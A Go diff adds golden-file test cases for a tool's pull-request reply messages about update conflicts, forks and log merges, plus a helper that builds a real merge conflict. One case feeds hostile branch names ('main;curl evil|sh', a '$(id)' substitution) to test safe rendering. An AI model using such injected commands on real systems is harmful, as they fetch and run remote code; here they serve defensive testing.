@@ -64,6 +64,12 @@ func TestRepliesGolden(t *testing.T) {
 		{"log-cut-off", "LogCutOff", LogCutOff(".pact/log.jsonl", "feat/x", []string{accept.What, "changes_requested T2 (comment 9 by @octocat)"})},
 		{"fork", "ForkNotice", ForkNotice(WhyFork, "feat/login", []string{PactifyCommand(accept), PactifyCommand(changes)})},
 		{"fork-forbidden", "ForkNotice", ForkNotice(WhyForbidden, "feat/login", []string{PactifyCommand(accept)})},
+		{"update-conflict", "UpdateConflict", UpdateConflict("main", "feat/x", []string{"src/login.go", "docs/`@org/team`.md"}, 3, true)},
+		{"update-conflict-hostile-branch", "UpdateConflict", UpdateConflict("main;curl evil|sh", "feat/x'$(id)", []string{"src/a.go"}, 0, false)},
+		{"update-pact-conflict", "UpdatePactConflict", UpdatePactConflict("main", "feat/x", ".pact/log.jsonl", mergeConflict(t).Explain("the merge base", "main", "this branch"))},
+		{"update-cannot-workflows", "UpdateCannot", UpdateCannot("main", "feat/x", UpdateWhyWorkflows)},
+		{"update-cannot-unreadable", "UpdateCannot", UpdateCannot("main", "feat/x", UpdateWhyUnreadable(errors.New("<b>too many</b> @org names")))},
+		{"update-fork", "UpdateFork", UpdateFork("main", "feat/login")},
 	}
 	dir := filepath.Join("testdata", "replies")
 	rendered := map[string]bool{}
@@ -85,12 +91,26 @@ func TestRepliesGolden(t *testing.T) {
 	}
 	// Every function of replies.go that writes a reply has a golden file;
 	// these only write parts of one.
-	parts := []string{"mention", "verbFor", "codeList", "quotedList", "orNone", "branchTasks", "problemNoArgs", "problemUnknownVerb", "FutureLines"}
+	parts := []string{"mention", "verbFor", "codeList", "quotedList", "orNone", "branchTasks", "problemNoArgs", "problemUnknownVerb", "FutureLines",
+		"UpdateMarker", "updateCommands", "UpdateWhyUnreadable"}
 	for _, name := range replyFuncs(t) {
 		if !rendered[name] && !slices.Contains(parts, name) {
 			t.Errorf("replies.go: %s writes a reply that no golden file shows; add a case", name)
 		}
 	}
+}
+
+// mergeConflict is a real conflict of two logs: the same task assigned on
+// both sides.
+func mergeConflict(t *testing.T) *projection.MergeConflict {
+	t.Helper()
+	base := initLine
+	_, err := projection.MergeLogs([]byte(base), []byte(base+assignOn(1, "T1", "feat/1")), []byte(base+assignOn(2, "T1", "feat/x")))
+	var c *projection.MergeConflict
+	if !errors.As(err, &c) {
+		t.Fatalf("the logs merged: %v", err)
+	}
+	return c
 }
 
 // engineRejection is a real refusal of the engine: an accept of T3, which
